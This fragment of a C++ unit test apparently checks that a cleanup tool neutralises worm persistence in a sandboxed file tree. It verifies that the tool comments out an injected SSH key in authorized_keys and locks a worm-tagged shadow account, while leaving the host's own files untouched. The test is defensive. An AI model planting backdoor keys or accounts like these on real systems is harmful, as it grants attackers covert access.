  EXPECT_EQ(test::read_file(dir / "root/.ssh/authorized_keys"),
            "ssh-ed25519 AAAAC3Nadmin admin@laptop\n# removed by minesweep: " + worm_key + "\n");
  EXPECT_NE(test::read_file(dir / "etc/shadow").find("\nhilde:!$6$worm$hash"), std::string::npos) << applied.out;
  EXPECT_EQ(test::read_file("/etc/hosts"), host_hosts) << "the host's own files are untouched";
}

}  // namespace
}  // namespace msw
